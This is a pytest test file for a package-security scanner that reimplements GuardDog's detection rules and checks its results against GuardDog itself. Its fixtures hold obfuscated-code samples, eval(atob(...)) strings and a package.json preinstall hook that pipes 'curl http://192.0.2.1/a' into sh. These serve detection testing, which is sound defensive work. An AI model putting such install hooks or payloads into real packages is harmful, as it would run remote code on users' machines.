"""GuardDog's rules as a library: the same results as GuardDog's own, and no shortcut too many."""

import importlib
import subprocess
import sys
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from package_gate.core.errors import ScannerError
from package_gate.inventory.once import Once
from package_gate.scanners import guarddog_rules
from package_gate.scanners.guarddog_rules import RuleSet
from tests.fakes.malware_corpus import EXEC_BASE64, FIRST, IN_A_FUNCTION
from tests.scanners.packages import package

ROOT = Path(__file__).parent.parent.parent


class _Rules:
    """Stands for compiled rules."""

    def __init__(self, *, fails: bool) -> None:
        self._fails = fails

    def match(self, *, warnings_callback: Callable[..., object], **_: object) -> list[object]:
        if self._fails:
            raise importlib.import_module("yara").Error("internal error: 30")
        warnings_callback(1, "more than 1,000,000 matches")
        return []


@pytest.mark.parametrize(
    ("fails", "message"),
    [
        (True, r"YARA failed on a\.py: internal error: 30"),
        (False, r"YARA gave up on a\.py: too many matches"),
    ],
)
def test_a_rule_that_fails_or_gives_up_is_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fails: bool, message: str
) -> None:
    rules = RuleSet()
    monkeypatch.setattr(rules, "_others", _Rules(fails=fails))

    with pytest.raises(ScannerError, match=message):
        rules.scan(Path(package(tmp_path, {"a.py": "x = 1\n"}).artifacts[0].tree), 60, Once(1))


@pytest.mark.parametrize(
    ("rule", "content"),
    [
        ("threat-runtime-obfuscation-unicode", "x = 'p\u0430ypal'\n"),
        ("threat-runtime-obfuscation-unicode", "x = 'Ωmega'\n"),
        ("threat-runtime-obfuscation-unicode", "x = 'megaΩ'\n"),
        ("threat-runtime-obfuscation-unicode", "x = 'a\U0001d41ab'\n"),
        ("threat-runtime-obfuscation-unicode", "x = 'a\u200bb'\n"),
        ("threat-runtime-obfuscation", ("'" + "QUJD" * 40 + "'\n") * 3),
        ("threat-runtime-obfuscation", ("'" + "\\x41" + "\\41" * 20 + "'\n") * 3),
        ("threat-runtime-obfuscation", "a_0x12ab = 1\n" * 10 + "'a' + 'b'\n" * 20),
        ("threat-runtime-obfuscation", ("'" + "\\u0041" * 12 + "'\n") * 2 + "'a' + 'b'\n" * 5),
        ("threat-runtime-obfuscation-hidden-code", "GLOBAL ['r'] = require;\n"),
        ("threat-runtime-obfuscation-hidden-code", "x" + " " * 400 + "y; eval ('1')\n"),
    ],
)
def test_no_shortcut_passes_over_what_its_rule_matches(rule: str, content: str) -> None:
    rules = RuleSet()
    assert rule in rules._slow, "the rule has changed: derive its shortcut anew"
    can_match, compiled = rules._slow[rule]

    assert compiled.match(data=content.encode())
    assert can_match(content.encode())


def test_a_rule_that_has_changed_has_no_shortcut(monkeypatch: pytest.MonkeyPatch) -> None:
    name = "threat-runtime-obfuscation-unicode"
    shortcut = guarddog_rules._Shortcut("0" * 64, lambda content: False)
    monkeypatch.setitem(guarddog_rules._SHORTCUTS, name, shortcut)
    rules = RuleSet()

    assert name not in rules._slow
    assert rules.scan_code("a.py", "x = 'p\u0430ypal'\n".encode(), 60).keys() == {name}


TREES: list[Mapping[str, str]] = [
    {f"{name}/{path}": text for name, files in FIRST.items() for path, text in files.items()},
    {
        # Counts that end in the middle, places twice over, folders in an order of their own.
        "b/z.py": EXEC_BASE64 * 3 + "import os\nos.system('ls')\n" * 20,
        "b/a.py": EXEC_BASE64 + "open('a')\n" * 5,
        "B.py": EXEC_BASE64,
        "a.py": IN_A_FUNCTION + "\n# " + EXEC_BASE64,
        "a b/c:d.py": FIRST["first: setup-sends-host-facts"]["setup.py"],
        "data.txt": EXEC_BASE64,
        "empty.py": "",
        "setup.cfg": "exec(",
    },
    {
        "min.js": "x='" + "a" * 3000 + "';eval(atob('" + "QUJD" * 90 + "'));" * 4 + "\n/* eval(",
        "long.py": "x = [" + "'" + "QUJD" * 60 + "', " * 50 + "]\r\n\r\n" + EXEC_BASE64,
        "kýrillic.py": "p\u0430ypal = 1\n'''\n" + EXEC_BASE64 + "'''\n" + EXEC_BASE64,
        "sample.pth": EXEC_BASE64,
        "package.json": '{"scripts": {"preinstall": "curl http://192.0.2.1/a | sh"}}',
        "sub/package.json": '{"scripts": {"preinstall": "curl http://192.0.2.1/a | sh"}}',
    },
]

_GUARDDOG_ITSELF = """
import json, sys, types
from pathlib import Path

# Its metadata rules would fetch lists of popular packages.
metadata = types.ModuleType("guarddog.analyzer.metadata")
metadata.get_metadata_detectors = lambda ecosystem: {}
from package_gate.inventory.once import Once
from package_gate.scanners.guarddog_rules import RuleSet
from package_gate.inventory.once import Once
from package_gate.scanners.guarddog import GuardDog
from package_gate.core.limits import Limits
ours = GuardDog(Limits())
sys.modules["guarddog.analyzer.metadata"] = metadata
from guarddog.analyzer.analyzer import Analyzer
for tree in sys.argv[1:]:
    analyzer = Analyzer()
    theirs = analyzer.analyze_sourcecode(tree)
    assert not theirs["errors"], theirs["errors"]
    expected = {
        rule: [(hit["location"], hit["code"], hit["match"]) for hit in hits]
        for rule, hits in theirs["results"].items() if hits
    }
    scan = ours._rules.scan(Path(tree), 60, Once(1))
    got = {
        rule: [(f"{hit.path}:{hit.line}", hit.code, hit.matched) for hit in hits]
        for rule, hits in scan.hits.items() if hits
    }
    assert list(got) == list(expected), (list(got), list(expected))
    assert got == expected
    score = ours._engine.calculate_risk_score(ours._risks(scan.hits)).score
    assert score == analyzer.calculate_package_risk_score(theirs)["score"]
    print(len(got), score)
"""


def test_rules_and_score_are_those_of_guarddog_itself(tmp_path: Path) -> None:
    trees = [
        package(tmp_path / str(number), files).artifacts[0].tree
        for number, files in enumerate(TREES)
    ]

    outcome = subprocess.run(
        [sys.executable, "-c", _GUARDDOG_ITSELF, *trees],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )

    assert outcome.returncode == 0, outcome.stderr
    assert [int(line.split()[0]) > 3 for line in outcome.stdout.splitlines()] == [True] * 3


def test_guarddog_s_downloads_and_metadata_rules_are_not_even_imported() -> None:
    code = (
        "import sys; from package_gate.scanners.guarddog import GuardDog;"
        "from package_gate.core.limits import Limits; GuardDog(Limits());"
        "print([name for name in sys.modules if name.startswith(('guarddog', 'requests'))])"
    )
    outcome = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True
    )

    assert sorted(eval(outcome.stdout)) == [
        "guarddog",
        "guarddog.analyzer",
        "guarddog.analyzer.risk_engine",
        "guarddog.analyzer.sourcecode",
        "guarddog.ecosystems",
        "guarddog.utils",
        "guarddog.utils.config",
    ]


def test_the_rules_are_compiled_once(monkeypatch: pytest.MonkeyPatch) -> None:
    rules = RuleSet()
    monkeypatch.setattr(rules._yara, "compile", None)

    assert rules.scan_code("a.py", EXEC_BASE64.encode(), 60)
